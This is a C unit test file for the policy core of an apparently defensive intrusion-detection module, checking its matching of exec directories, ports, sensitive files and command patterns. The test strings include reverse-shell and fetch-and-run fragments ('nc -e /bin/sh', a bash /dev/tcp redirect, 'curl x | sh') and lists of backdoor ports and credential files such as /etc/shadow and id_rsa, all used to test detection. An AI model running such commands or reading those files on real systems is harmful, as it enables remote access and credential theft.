// SPDX-License-Identifier: GPL-2.0
/*
 * Unit tests of the portable policy core, in user space. Built with ASan and
 * UBSan by tests/kmod/test_policy_core.py; prints one line per failure and
 * "N passed, N failed" at the end; exits 1 on any failure.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "../immune_policy.h"

static int passed, failed;

#define CHECK(cond) check((cond), #cond, __LINE__)

static void check(int ok, const char *what, int line)
{
	if (ok) {
		passed++;
		return;
	}
	failed++;
	printf("FAIL line %d: %s\n", line, what);
}

/* A heap copy without a NUL, so that ASan sees any read past len. */
static char *exact(const char *s, size_t *len)
{
	char *p;

	*len = strlen(s);
	p = malloc(*len ? *len : 1);
	memcpy(p, s, *len);
	return p;
}

static int exec_dir(const struct imm_policy *p, const char *s)
{
	size_t len;
	char *b = exact(s, &len);
	int r = imm_match_exec_dir(p, b, len);

	free(b);
	return r;
}

static int pattern(const struct imm_policy *p, const char *s)
{
	size_t len;
	char *b = exact(s, &len);
	int r = imm_match_pattern(p, b, len);

	free(b);
	return r;
}

static int file(const struct imm_policy *p, const char *s)
{
	size_t len;
	char *b = exact(s, &len);
	int r = imm_match_file(p, b, len);

	free(b);
	return r;
}

static int candidate(const struct imm_policy *p, const char *s)
{
	size_t len;
	char *b = exact(s, &len);
	int r = imm_file_candidate(p, b, len);

	free(b);
	return r;
}

static void test_defaults(struct imm_policy *p)
{
	imm_policy_defaults(p);
	CHECK(p->enabled == 1 && p->block_mode == 0);
	CHECK(p->exec_dirs.count == 3);
	CHECK(p->patterns.count == 10);
	CHECK(p->nports == 5);
}

static void test_exec_dirs(const struct imm_policy *p)
{
	CHECK(exec_dir(p, "/tmp/x") == 0);
	CHECK(exec_dir(p, "/dev/shm/a/b") == 1);
	CHECK(exec_dir(p, "/var/tmp/run.sh") == 2);
	CHECK(exec_dir(p, "/tmpx/a") == -1);
	CHECK(exec_dir(p, "/tmp") == -1);
	CHECK(exec_dir(p, "/usr/bin/tmp/x") == -1);
	CHECK(exec_dir(p, "") == -1);
}

static void test_patterns(const struct imm_policy *p)
{
	CHECK(pattern(p, "nc 10.0.0.1 4444") == 0);
	CHECK(pattern(p, "/bin/sh -c nc -e /bin/sh x") == 0);
	CHECK(pattern(p, "/usr/bin/nc 1.2.3.4 80") == 0);
	CHECK(pattern(p, "rsync -a a b") == -1);
	CHECK(pattern(p, "sync ") == -1);
	CHECK(pattern(p, "ncat -l") == 1);
	CHECK(pattern(p, "bash -c 'exec 3<>/dev/tcp/1.2.3.4/80'") == 2);
	CHECK(pattern(p, "bash -i") == 3);
	CHECK(pattern(p, "python -c import pty") == 4);
	CHECK(pattern(p, "curl x | sh") == 7);
	CHECK(pattern(p, "wget http://x") == 8);
	CHECK(pattern(p, "mycurl x") == -1);
	CHECK(pattern(p, "ls -l /tmp") == -1);
	CHECK(pattern(p, "nc") == -1);
	CHECK(pattern(p, "") == -1);
}

static void test_ports(struct imm_policy *p)
{
	unsigned short ports[IMM_MAX_PORTS];
	const char *many = "1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23,24,25,26,27,28,29,30,31,32,33";
	unsigned int n = 99;

	CHECK(imm_port_blocked(p, 4444));
	CHECK(imm_port_blocked(p, 31337));
	CHECK(!imm_port_blocked(p, 444));
	CHECK(!imm_port_blocked(p, 44444));
	CHECK(!imm_port_blocked(p, 4444 + 65536));
	CHECK(imm_ports_parse(ports, &n, "80, 443\n8080", 12) == 3);
	CHECK(n == 3 && ports[0] == 80 && ports[1] == 443 && ports[2] == 8080);
	n = 99;
	CHECK(imm_ports_parse(ports, &n, "80,x", 4) == -IMM_EINVAL);
	CHECK(imm_ports_parse(ports, &n, "65536", 5) == -IMM_EINVAL);
	CHECK(imm_ports_parse(ports, &n, "0", 1) == -IMM_EINVAL);
	CHECK(imm_ports_parse(ports, &n, "-1", 2) == -IMM_EINVAL);
	CHECK(imm_ports_parse(ports, &n, "99999999999999999999", 20) ==
	      -IMM_EINVAL);
	CHECK(n == 99);
	CHECK(imm_ports_parse(ports, &n, "", 0) == 0 && n == 0);
	CHECK(imm_ports_parse(ports, &n, many, strlen(many)) == -IMM_E2BIG);
	CHECK(imm_ports_parse(ports, &n, many, strlen(many) - 3) == 32);
}

static void test_files(const struct imm_policy *p)
{
	CHECK(file(p, "/etc/shadow") == 0);
	CHECK(file(p, "/etc/shadow-") == -1);
	CHECK(file(p, "/x/etc/shadow") == -1);
	CHECK(file(p, "/etc/passwd") >= 0);
	CHECK(file(p, "/home/ann/.ssh/id_rsa") >= 0);
	CHECK(file(p, "/root/.ssh/authorized_keys") >= 0);
	CHECK(file(p, "/home/ann/x.ssh/id_rsa") == -1);
	CHECK(file(p, ".ssh/id_rsa") == -1);
	CHECK(file(p, "/home/ann/.ssh/id_rsa.pub") == -1);
	CHECK(candidate(p, "shadow"));
	CHECK(candidate(p, "id_rsa"));
	CHECK(!candidate(p, "id_rsa.pub"));
	CHECK(!candidate(p, ""));
}

static void test_lists(void)
{
	struct imm_policy p;
	char big[IMM_ITEM_LEN + 2];
	char out[64];
	size_t n;

	imm_policy_defaults(&p);
	CHECK(imm_list_parse(&p.patterns, "foo\n\nbar baz\n", 13) == 2);
	CHECK(p.patterns.count == 2 && p.patterns.len[1] == 7);
	CHECK(pattern(&p, "x bar baz") == 1);
	CHECK(pattern(&p, "nc 1 2") == -1);
	memset(big, 'a', sizeof(big));
	CHECK(imm_list_parse(&p.patterns, big, IMM_ITEM_LEN) == -IMM_E2BIG);
	CHECK(imm_list_parse(&p.patterns, big, IMM_ITEM_LEN - 1) == 1);
	CHECK(imm_list_parse(&p.patterns, "a\0b", 3) == -IMM_EINVAL);
	CHECK(p.patterns.count == 1);
	CHECK(imm_list_parse(&p.exec_dirs, "/opt/\n", 6) == 1);
	n = imm_list_format(&p.exec_dirs, out, sizeof(out));
	CHECK(n == 6 && !strcmp(out, "/opt/\n"));
	n = imm_list_format(&p.exec_dirs, out, 3);
	CHECK(n == 2 && !strcmp(out, "/o"));
	n = imm_ports_format(p.ports, p.nports, out, sizeof(out));
	CHECK(!strcmp(out, "4444,5555,6666,31337,12345\n") && n == 27);
	CHECK(imm_list_parse(&p.files, "", 0) == 0 && p.files.count == 0);
	CHECK(file(&p, "/etc/shadow") == -1);
}

static void test_credentials(void)
{
	CHECK(imm_to_root(1000, 0));
	CHECK(!imm_to_root(0, 0));
	CHECK(!imm_to_root(0, 1000));
	CHECK(!imm_to_root(1000, 1001));
	CHECK(imm_priv_port_by_user(80, 1000));
	CHECK(!imm_priv_port_by_user(80, 0));
	CHECK(!imm_priv_port_by_user(8080, 1000));
	CHECK(!imm_priv_port_by_user(0, 1000));
}

int main(void)
{
	struct imm_policy p;

	test_defaults(&p);
	test_exec_dirs(&p);
	test_patterns(&p);
	test_ports(&p);
	test_files(&p);
	test_lists();
	test_credentials();
	printf("policy core: %d passed, %d failed\n", passed, failed);
	return failed ? 1 : 0;
}
